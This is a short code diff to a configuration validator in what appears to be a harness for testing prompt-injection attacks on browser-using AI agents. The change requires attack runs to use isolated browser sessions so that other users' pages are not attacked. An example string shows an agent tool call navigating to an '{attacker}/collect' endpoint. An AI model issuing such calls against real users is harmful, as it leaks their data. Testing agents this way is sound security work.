@@ -25,7 +25,8 @@ OBEDIENT = "gullible"
 
 SHARED = (
     "the browser's own context is shared with others, whose pages would be attacked too. Give attempts "
-    "contexts of their own: `browser: {type: cdp, url: ..., context: own}` or `browser: {type: playwright}`."
+    "contexts of their own: `browser: {type: cdp, url: ..., sessions: isolated}` or "
+    "`browser: {type: playwright}`."
 )
 EXAMPLE = '{"tool": "navigate", "url": "{attacker}/collect"}'
 TOKEN = secrets.token_hex(24)
@@ -88,7 +89,7 @@ def _find_problems(config: EvalConfig, attack: AttackConfig) -> Iterator[tuple[_
     except ValueError as error:
         yield ("goal",), str(error)
         return
-    if (is_in_pages or goal.typed) and getattr(browser, "context", None) == "shared":
+    if (is_in_pages or goal.typed) and browser.has_page and getattr(browser, "sessions", None) == "shared":
         yield (), f"{attack.type!r}: {SHARED}"
     yield from _find_lacking(config, attack, goal)
     if goal.needs_page and not browser.has_page:
